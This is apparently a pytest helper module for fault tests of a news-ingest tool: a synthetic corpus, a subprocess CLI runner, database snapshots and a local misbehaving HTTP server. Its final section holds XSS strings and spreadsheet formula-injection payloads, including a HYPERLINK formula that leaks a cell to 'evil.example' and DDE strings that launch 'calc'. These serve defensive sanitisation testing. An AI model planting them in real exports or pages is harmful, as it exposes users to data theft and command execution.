"""What the fault scenarios share: a corpus, a local HTTP server, the real CLI, snapshots.

Everything is real: SQLite files under ``tmp_path``, ``python -m ingest`` in subprocesses, and a
threaded stdlib HTTP server on 127.0.0.1 whose handlers can drip, flood or never finish.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

REPO = Path(__file__).resolve().parents[2]

ACTORS = ["Russia", "France", "Turkey", "China"]
PARTNERS = ["Mali", "Niger", "Burkina Faso", "Chad", "Sudan"]


# --- A corpus whose every document is tagged: lost or half-written tags show up ------------

def corpus(count: int, *, prefix: str = "doc") -> list[dict]:
    """``count`` distinct English reports, each naming an actor and a partner country."""
    docs = []
    for n in range(count):
        actor, partner = ACTORS[n % len(ACTORS)], PARTNERS[n % len(PARTNERS)]
        day = 1 + n % 28
        docs.append({
            "id": f"{prefix}-{n}",
            "url": f"https://news.example/{prefix}/{n}",
            "title": f"{actor} and {partner}: report {prefix} {n}",
            "text": (
                f"{actor} deployed 300 soldiers to {partner} on March {day}, 2023, officials said."
                f" The {actor} defence ministry signed a military cooperation agreement with"
                f" {partner} in Bamako, report number {n} of series {prefix}. Analysts said the"
                f" deal covers training, equipment and intelligence sharing."
            ),
            "published": f"2023-03-{day:02d}T10:00:00Z",
            "language": "en",
        })
    return docs


def write_seeds(folder: Path, docs: list[dict], per_file: int = 50) -> Path:
    """``docs`` as JSON Lines seed files of ``per_file`` records each."""
    folder.mkdir(parents=True, exist_ok=True)
    for start in range(0, len(docs), per_file):
        lines = (json.dumps(doc, ensure_ascii=False) for doc in docs[start:start + per_file])
        (folder / f"batch-{start // per_file:04d}.jsonl").write_text(
            "\n".join(lines) + "\n", encoding="utf-8")
    return folder


def rss(docs: Iterable[dict], *, title: str = "Fault feed") -> bytes:
    """An RSS 2.0 feed of ``docs`` (title, url, text, published)."""
    items = "".join(
        f"<item><title>{escape(d['title'])}</title><link>{escape(d['url'])}</link>"
        f"<guid>{escape(d['url'])}</guid><pubDate>Wed, 01 Mar 2023 10:00:00 GMT</pubDate>"
        f"<description>{escape(d['text'])}</description></item>"
        for d in docs
    )
    return (f'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>'
            f"<title>{escape(title)}</title><link>https://news.example/</link>"
            f"<description>faults</description><language>en</language>{items}"
            "</channel></rss>").encode()


# --- The real command line ----------------------------------------------------------------

def cli_env(**extra: str) -> dict[str, str]:
    env = {key: value for key, value in os.environ.items() if key != "MONITOR_DB"}
    env["PYTHONPATH"] = str(REPO) + os.pathsep + env.get("PYTHONPATH", "")
    env["PYTHONUNBUFFERED"] = "1"
    env.update(extra)
    return env


def cli_args(*args: str) -> list[str]:
    return [sys.executable, "-m", "ingest", *args]


def run_cli(*args: str, timeout: float = 120, cwd: Path | None = None,
            stdin: str | None = None) -> subprocess.CompletedProcess:
    """``python -m ingest ARGS`` to completion (the timeout is only a hang guard)."""
    return subprocess.run(cli_args(*args), capture_output=True, text=True, timeout=timeout,
                          cwd=cwd or REPO, env=cli_env(), input=stdin)


def start_cli(*args: str, cwd: Path | None = None) -> subprocess.Popen:
    return subprocess.Popen(cli_args(*args), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, cwd=cwd or REPO, env=cli_env())


def one_line_error(result: subprocess.CompletedProcess) -> str:
    """The single error line of a failed command; fails the test on a traceback or a wall."""
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Traceback" not in output, output
    lines = [line for line in output.splitlines() if line.strip()
             and not line.startswith(("Usage:", "Try '"))]  # click's usage hint is not an error
    assert len(lines) == 1, output
    return lines[0]


# --- Looking at a database the way an analyst's checks would ---------------------------------

def ro(path: Path) -> sqlite3.Connection:
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=30)


def integrity(path: Path) -> str:
    with ro(path) as conn:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]


def count(path: Path, sql: str = "SELECT count(*) FROM articles", params=()) -> int:
    try:
        conn = ro(path)
    except sqlite3.OperationalError:
        return 0
    try:
        return conn.execute(sql, params).fetchone()[0]
    except sqlite3.OperationalError:  # not created yet
        return 0
    finally:
        conn.close()


@dataclass
class Snapshot:
    """What a database holds, keyed by things that survive a rebuild (URLs, not row ids)."""

    urls: list[str]                       # canonical_url of every article, with repeats
    hashes: list[str]                     # content_hash of every article, with repeats
    tags: dict[str, tuple]                # canonical_url -> sorted (kind, value, evidence)
    dyads: dict[str, tuple]
    posture: dict[str, tuple]
    runs: list[tuple]                     # (kind, status, finished_at is not null)


def snapshot(path: Path) -> Snapshot:
    with ro(path) as conn:
        def grouped(sql: str) -> dict[str, tuple]:
            out: dict[str, list] = {}
            for url, *rest in conn.execute(sql):
                out.setdefault(url, []).append(tuple(rest))
            return {url: tuple(sorted(rows, key=repr)) for url, rows in out.items()}

        return Snapshot(
            urls=[r[0] for r in conn.execute("SELECT canonical_url FROM articles")],
            hashes=[r[0] for r in conn.execute("SELECT content_hash FROM articles")],
            tags=grouped("SELECT a.canonical_url, t.kind, t.value, t.evidence FROM tags t"
                         " JOIN articles a ON a.id = t.article_id"),
            dyads=grouped("SELECT a.canonical_url, d.actor, d.partner, d.status, d.evidence"
                          " FROM dyads d JOIN articles a ON a.id = d.article_id"),
            posture=grouped("SELECT a.canonical_url, p.actor, p.country, p.action,"
                            " p.personnel, p.evidence FROM posture p"
                            " JOIN articles a ON a.id = p.article_id"),
            runs=[(r[0], r[1], r[2]) for r in conn.execute(
                "SELECT kind, status, finished_at IS NOT NULL FROM runs ORDER BY id")],
        )


# --- A local HTTP server with per-path handlers ---------------------------------------------

Handler = Callable[[BaseHTTPRequestHandler], None]


class LocalServer:
    """A threaded HTTP server on 127.0.0.1; ``route(path, ...)`` says what a path serves."""

    def __init__(self) -> None:
        self.routes: dict[str, Handler] = {}
        self.hits: dict[str, int] = {}
        self.stopping = threading.Event()
        routes, hits = self.routes, self.hits

        class RequestHandler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                path = self.path.split("?", 1)[0]
                hits[path] = hits.get(path, 0) + 1
                handler = routes.get(path)
                if handler is None:
                    self.send_error(404)
                    return
                try:
                    handler(self)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up on us: exactly what a hostile route wants

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), RequestHandler)
        self.server.daemon_threads = True
        self.server.handle_error = self._handle_error
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @staticmethod
    def _handle_error(request, address) -> None:
        """A client hanging up on a hostile route is the point; anything else is reported."""
        if not isinstance(sys.exc_info()[1], ConnectionError):
            ThreadingHTTPServer.handle_error(None, request, address)  # type: ignore[arg-type]

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.server.server_port}{path}"

    def route(self, path: str, handler: Handler) -> str:
        self.routes[path] = handler
        return self.url(path)

    def bytes(self, path: str, body: bytes, content_type: str = "application/rss+xml",
              headers: dict[str, str] | None = None) -> str:
        def handler(request: BaseHTTPRequestHandler) -> None:
            request.send_response(200)
            request.send_header("Content-Type", content_type)
            request.send_header("Content-Length", str(len(body)))
            for key, value in (headers or {}).items():
                request.send_header(key, value)
            request.end_headers()
            request.wfile.write(body)
        return self.route(path, handler)

    def close(self) -> None:
        self.stopping.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def server():
    local = LocalServer()
    yield local
    local.close()


# --- Hostile text: markup, spreadsheet formulas, scripts of every kind ---------------------

MARKUP = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    "**bold**",
    "[link](javascript:alert(3))",
    "$x$",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented =1+1",
    "\rreturn =1+1",
    "\x00nul =1+1",
]
SCRIPTS = {
    "quotes": 'He said "yes", then, after a pause,\nleft; \'quoted\'',
    "arabic": "روسيا ومالي توقعان اتفاقا",
    "cyrillic": "Россия и Мали подписали соглашение",
    "chinese": "俄罗斯与马里签署协议",
    "tifinagh": "ⵜⴰⵎⴰⵣⵉⵖⵜ ⴰⵎⴰⵍⵉ",
}
HOSTILE_SOURCE = "=cmd|' /C calc'!A0 <script>alert('source')</script> **feed**"


def hostile_documents() -> list:
    """Documents whose titles, texts (hence evidence sentences) and outlets carry the above."""
    from ingest.dates import parse_date
    from ingest.pipeline import Document

    docs = []
    payloads = MARKUP + FORMULAS + list(SCRIPTS.values())
    for n, payload in enumerate(payloads):
        actor, partner = ACTORS[n % len(ACTORS)], PARTNERS[n % len(PARTNERS)]
        title = f"{payload} {actor} and {partner}" if payload in FORMULAS else (
            f"{actor} and {partner} {payload}")
        text = (f"{payload} {actor} deployed 300 soldiers to {partner} {payload} on March 3,"
                f" 2023. {actor} signed a military cooperation agreement with {partner} in"
                f" Bamako {payload}.")
        docs.append(Document(
            title=title, text=text, key=f"hostile:{n}", url=f"https://news.example/hostile/{n}",
            published=parse_date(f"2023-03-{n + 1:02d}"), language="en",
            outlet=payload, author=payload,
        ))
    return docs


def build_hostile_db(path: Path, source_name: str = HOSTILE_SOURCE):
    """A database of hostile articles stored through the library, with the real tagger."""
    from ingest import pipeline, store

    db = store.open_db(path)
    with store.transaction(db):
        feed = store.ensure_source(db, kind="feed", url="https://evil.example/feed.xml",
                                   name=source_name, affiliation="Russia")
    for doc in hostile_documents():
        assert pipeline.store_document(db, doc, feed) == "new"
    return db
